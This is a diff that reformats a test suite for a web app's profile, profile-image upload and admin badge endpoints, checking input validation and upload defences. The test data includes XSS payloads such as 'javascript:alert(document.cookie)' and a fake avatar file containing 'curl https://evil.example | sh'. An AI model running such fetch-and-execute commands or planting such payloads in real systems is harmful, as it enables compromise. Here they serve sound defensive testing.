@@ -1,6 +1,14 @@
 import {
-  BADGE_ALREADY_HELD, BADGE_NOT_HELD, PROFILE_IMAGE_MAX_BYTES, PROFILE_IMAGE_MISSING, PROFILE_IMAGE_NOT_AN_IMAGE, PROFILE_IMAGE_TOO_LARGE,
-  PROFILE_IMAGE_TOO_MANY_PIXELS, PROFILE_IMAGE_URL_NOT_OWN, UNKNOWN_BADGE, linkMessage,
+  BADGE_ALREADY_HELD,
+  BADGE_NOT_HELD,
+  PROFILE_IMAGE_MAX_BYTES,
+  PROFILE_IMAGE_MISSING,
+  PROFILE_IMAGE_NOT_AN_IMAGE,
+  PROFILE_IMAGE_TOO_LARGE,
+  PROFILE_IMAGE_TOO_MANY_PIXELS,
+  PROFILE_IMAGE_URL_NOT_OWN,
+  UNKNOWN_BADGE,
+  linkMessage,
 } from '@civitas/events';
 import { randomBytes } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -12,8 +20,14 @@ import { metadataOf, pngBomb, pngOfSize, pngWithGps, smallImage } from './image-
 import { PROFILE_TEST_ENV, newAdmin, uploadImage } from './profile-clients';
 
 const PROFILE = {
-  firstName: 'Amina', lastName: 'Haddad', aboutMe: 'Teacher in Riyadh.\nI care about libraries.', city: 'Riyadh',
-  websiteUrl: 'https://amina.example/about', twitterUrl: 'https://twitter.com/amina', linkedinUrl: 'https://www.linkedin.com/in/amina', githubUrl: 'http://github.com/amina',
+  firstName: 'Amina',
+  lastName: 'Haddad',
+  aboutMe: 'Teacher in Riyadh.\nI care about libraries.',
+  city: 'Riyadh',
+  websiteUrl: 'https://amina.example/about',
+  twitterUrl: 'https://twitter.com/amina',
+  linkedinUrl: 'https://www.linkedin.com/in/amina',
+  githubUrl: 'http://github.com/amina',
 };
 
 describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /api/images, badges (issue 14)', () => {
@@ -26,10 +40,15 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
   });
   afterAll(async () => server?.close());
 
-  const save = (member: Member | TestClient, body: Record<string, unknown>) => ('browser' in member ? member.browser : member).json('PUT', '/api/user/profile', body);
+  const save = (member: Member | TestClient, body: Record<string, unknown>) =>
+    ('browser' in member ? member.browser : member).json('PUT', '/api/user/profile', body);
   const me = async (member: Member) => (await member.browser.json('GET', '/api/auth/user')).body;
   const imageRows = async (userId: string) => server.query<{ hash: string }>('select hash from profile_images where user_id = $1', [userId]);
-  const eventsOf = async (userId: string, type: string) => server.query<{ data: Record<string, unknown> }>('select data from events where stream_id = $1 and type = $2 order by global_position', [`user-${userId}`, type]);
+  const eventsOf = async (userId: string, type: string) =>
+    server.query<{ data: Record<string, unknown> }>('select data from events where stream_id = $1 and type = $2 order by global_position', [
+      `user-${userId}`,
+      type,
+    ]);
 
   describe('PUT /api/user/profile', () => {
     it('saves every field, answers them with the position, and GET /api/auth/user shows them', async () => {
@@ -42,7 +61,11 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
       const [event] = (await eventsOf(amina.userId, 'ProfileUpdated')).slice(-1);
       const stored = JSON.stringify(event!.data);
       for (const value of Object.values(PROFILE)) expect(stored).not.toContain(value.split('\n')[0]);
-      expect(Object.entries(event!.data).filter(([key]) => key !== 'userId').every(([, value]) => value === null || String(value).startsWith('v1.'))).toBe(true);
+      expect(
+        Object.entries(event!.data)
+          .filter(([key]) => key !== 'userId')
+          .every(([, value]) => value === null || String(value).startsWith('v1.')),
+      ).toBe(true);
     });
 
     it('keeps a field left out, clears a field sent empty or null', async () => {
@@ -58,18 +81,40 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
     });
 
     it('refuses links that are not absolute http(s) addresses, javascript: above all', async () => {
-      const refused = ['javascript:alert(document.cookie)', 'JAVASCRIPT:alert(1)', 'data:text/html,<script>alert(1)</script>', 'ftp://example.org', 'example.org', '//evil.example', 'https://', 'https://exa mple.org'];
-      for (const websiteUrl of refused) expect(await save(amina, { ...PROFILE, websiteUrl })).toEqual({ status: 400, body: { message: linkMessage('Website') } });
+      const refused = [
+        'javascript:alert(document.cookie)',
+        'JAVASCRIPT:alert(1)',
+        'data:text/html,<script>alert(1)</script>',
+        'ftp://example.org',
+        'example.org',
+        '//evil.example',
+        'https://',
+        'https://exa mple.org',
+      ];
+      for (const websiteUrl of refused)
+        expect(await save(amina, { ...PROFILE, websiteUrl })).toEqual({ status: 400, body: { message: linkMessage('Website') } });
       expect(await save(amina, { ...PROFILE, twitterUrl: 'javascript:alert(1)' })).toEqual({ status: 400, body: { message: linkMessage('Twitter') } });
       expect((await me(amina)).websiteUrl).toBe(PROFILE.websiteUrl);
     });
 
     it('refuses values over the limits and characters a field may not hold', async () => {
-      expect(await save(amina, { ...PROFILE, firstName: 'x'.repeat(101) })).toEqual({ status: 400, body: { message: 'First name must be at most 100 characters' } });
+      expect(await save(amina, { ...PROFILE, firstName: 'x'.repeat(101) })).toEqual({
+        status: 400,
+        body: { message: 'First name must be at most 100 characters' },
+      });
       expect(await save(amina, { ...PROFILE, city: 'x'.repeat(101) })).toEqual({ status: 400, body: { message: 'City must be at most 100 characters' } });
-      expect(await save(amina, { ...PROFILE, aboutMe: 'x'.repeat(1001) })).toEqual({ status: 400, body: { message: 'About me must be at most 1000 characters' } });
-      expect(await save(amina, { ...PROFILE, websiteUrl: `https://example.org/${'x'.repeat(2048)}` })).toEqual({ status: 400, body: { message: 'Website must be at most 2048 characters' } });
-      expect(await save(amina, { ...PROFILE, city: 'Riyadh\u202E' })).toEqual({ status: 400, body: { message: 'City contains characters that are not allowed' } });
+      expect(await save(amina, { ...PROFILE, aboutMe: 'x'.repeat(1001) })).toEqual({
+        status: 400,
+        body: { message: 'About me must be at most 1000 characters' },
+      });
+      expect(await save(amina, { ...PROFILE, websiteUrl: `https://example.org/${'x'.repeat(2048)}` })).toEqual({
+        status: 400,
+        body: { message: 'Website must be at most 2048 characters' },
+      });
+      expect(await save(amina, { ...PROFILE, city: 'Riyadh\u202E' })).toEqual({
+        status: 400,
+        body: { message: 'City contains characters that are not allowed' },
+      });
       expect(await save(amina, { ...PROFILE, aboutMe: 'x'.repeat(1000) })).toMatchObject({ status: 200 });
     });
 
@@ -98,7 +143,15 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
       expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
       expect(served.headers.get('x-content-type-options')).toBe('nosniff');
       const stored = Buffer.from(await served.arrayBuffer());
-      expect(await metadataOf(stored)).toMatchObject({ format: 'jpeg', width: 400, height: 300, exif: undefined, icc: undefined, xmp: undefined, iptc: undefined });
+      expect(await metadataOf(stored)).toMatchObject({
+        format: 'jpeg',
+        width: 400,
+        height: 300,
+        exif: undefined,
+        icc: undefined,
+        xmp: undefined,
+        iptc: undefined,
+      });
       // The same bytes in the table, and only the hash and URL in the event.
       const [row] = await server.query<{ bytes: Buffer }>('select bytes from profile_images where user_id = $1', [amina.userId]);
       expect(row!.bytes.equals(stored)).toBe(true);
@@ -131,7 +184,14 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
         const upload = Buffer.concat([png, tail]);
         expect(await uploadImage(member.browser, upload)).toMatchObject({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
         // Paced so that a chunk ends exactly at 2 MB: the bytes past the limit arrive in a chunk of their own.
-        expect(await pacedUpload(member.browser, '/api/user/profile-image', { file: { field: 'profileImage', name: 'me.png', type: 'image/png', bytes: upload } }, PROFILE_IMAGE_MAX_BYTES)).toEqual({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
+        expect(
+          await pacedUpload(
+            member.browser,
+            '/api/user/profile-image',
+            { file: { field: 'profileImage', name: 'me.png', type: 'image/png', bytes: upload } },
+            PROFILE_IMAGE_MAX_BYTES,
+          ),
+        ).toEqual({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
       }
       expect(await imageRows(member.userId)).toEqual(before.rows);
       expect(await eventsOf(member.userId, 'ProfileImageChanged')).toEqual(before.events);
@@ -139,12 +199,16 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
 
     it('judges the file by its content: a script named .png is refused, storing nothing', async () => {
       const member = await newMember(server, 'Script');
-      const refused = await uploadImage(member.browser, Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), { filename: 'avatar.png', type: 'image/png' });
+      const refused = await uploadImage(member.browser, Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), {
+        filename: 'avatar.png',
+        type: 'image/png',
+      });
       expect(refused).toMatchObject({ status: 400, body: { message: PROFILE_IMAGE_NOT_AN_IMAGE } });
       expect(await imageRows(member.userId)).toEqual([]);
       expect(await eventsOf(member.userId, 'ProfileImageChanged')).toEqual([]);
       // GIF and WebP are images too.
-      for (const format of ['gif', 'webp'] as const) expect((await uploadImage(member.browser, await smallImage(format), { filename: `x.${format}`, type: `image/${format}` })).status).toBe(200);
+      for (const format of ['gif', 'webp'] as const)
+        expect((await uploadImage(member.browser, await smallImage(format), { filename: `x.${format}`, type: `image/${format}` })).status).toBe(200);
     });
 
     it('refuses a decompression bomb with a clear 400', async () => {
@@ -152,8 +216,14 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
     });
 
     it('refuses a request without the profileImage file, or sent as JSON', async () => {
-      expect(await uploadImage(amina.browser, await smallImage('png'), { field: 'avatar' })).toMatchObject({ status: 400, body: { message: PROFILE_IMAGE_MISSING } });
-      expect(await amina.browser.json('POST', '/api/user/profile-image', { profileImage: 'https://example.org/a.png' })).toEqual({ status: 400, body: { message: PROFILE_IMAGE_MISSING } });
+      expect(await uploadImage(amina.browser, await smallImage('png'), { field: 'avatar' })).toMatchObject({
+        status: 400,
+        body: { message: PROFILE_IMAGE_MISSING },
+      });
+      expect(await amina.browser.json('POST', '/api/user/profile-image', { profileImage: 'https://example.org/a.png' })).toEqual({
+        status: 400,
+        body: { message: PROFILE_IMAGE_MISSING },
+      });
     });
 
     it('requires a signed-in member', async () => {
@@ -186,8 +256,10 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
   describe('founder badge (admins only)', () => {
     const grant = (who: Member | TestClient, userId: string, body: Record<string, unknown> = { badge: 'founder', reason: 'Built the first version' }) =>
       ('browser' in who ? who.browser : who).json('POST', `/api/admin/users/${userId}/badges`, body);
-    const revoke = (who: Member | TestClient, userId: string, badge = 'founder') => ('browser' in who ? who.browser : who).json('DELETE', `/api/admin/users/${userId}/badges/${badge}`, { reason: 'Moved on' });
-    const badgesOf = async (member: Member) => (await member.browser.json('GET', '/api/user/profile')).body.badges.map((badge: { label: string }) => badge.label);
+    const revoke = (who: Member | TestClient, userId: string, badge = 'founder') =>
+      ('browser' in who ? who.browser : who).json('DELETE', `/api/admin/users/${userId}/badges/${badge}`, { reason: 'Moved on' });
+    const badgesOf = async (member: Member) =>
+      (await member.browser.json('GET', '/api/user/profile')).body.badges.map((badge: { label: string }) => badge.label);
 
     it('refuses members (403) and visitors (401), storing nothing', async () => {
       expect(await grant(amina, amina.userId)).toEqual({ status: 403, body: { message: 'Admin access required' } });
@@ -200,7 +272,12 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
     it('lets an admin grant the founder badge once, shown on the member\u2019s profile, and revoke it', async () => {
       const granted = await grant(admin, amina.userId);
       expect(granted).toEqual({ status: 201, body: { position: expect.any(String), userId: amina.userId, badge: 'founder', held: true } });
-      expect((await eventsOf(amina.userId, 'BadgeGranted'))[0]!.data).toEqual({ userId: amina.userId, badge: 'founder', grantedBy: admin.userId, reason: 'Built the first version' });
+      expect((await eventsOf(amina.userId, 'BadgeGranted'))[0]!.data).toEqual({
+        userId: amina.userId,
+        badge: 'founder',
+        grantedBy: admin.userId,
+        reason: 'Built the first version',
+      });
       amina.browser.position = granted.body.position;
       expect(await badgesOf(amina)).toContain('Founder');
       expect(await grant(admin, amina.userId)).toEqual({ status: 409, body: { message: BADGE_ALREADY_HELD } });
@@ -213,7 +290,8 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
     });
 
     it('answers 404 for a member who does not exist and 400/404 for a badge that does not', async () => {
-      for (const id of ['00000000-0000-4000-8000-000000000000', 'not-a-user']) expect(await grant(admin, id)).toEqual({ status: 404, body: { message: 'User not found' } });
+      for (const id of ['00000000-0000-4000-8000-000000000000', 'not-a-user'])
+        expect(await grant(admin, id)).toEqual({ status: 404, body: { message: 'User not found' } });
       expect(await grant(admin, amina.userId, { badge: 'emperor' })).toEqual({ status: 400, body: { message: UNKNOWN_BADGE } });
       expect(await revoke(admin, amina.userId, 'emperor')).toEqual({ status: 404, body: { message: UNKNOWN_BADGE } });
     });
@@ -229,8 +307,13 @@ describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /ap
       expect(profile.verification).toEqual({ country: 'Saudi Arabia', nationalId: '1234567890' });
       expect(profile.badges).toEqual([{ id: 'verified', label: 'Verified' }]);
       expect(profile.user).toMatchObject({ id: member.userId, email: member.email, firstName: 'Verified' });
-      expect(profile.achievements.map((achievement: { id: string; unlocked: boolean; value: number }) => [achievement.id, achievement.unlocked, achievement.value])).toEqual([
-        ['active_participant', false, 0], ['topic_creator', false, 0], ['trusted_delegate', false, 0], ['election_winner', false, 0],
+      expect(
+        profile.achievements.map((achievement: { id: string; unlocked: boolean; value: number }) => [achievement.id, achievement.unlocked, achievement.value]),
+      ).toEqual([
+        ['active_participant', false, 0],
+        ['topic_creator', false, 0],
+        ['trusted_delegate', false, 0],
+        ['election_winner', false, 0],
       ]);
       expect((await new TestClient(server.baseUrl).json('GET', '/api/user/profile')).status).toBe(401);
     });
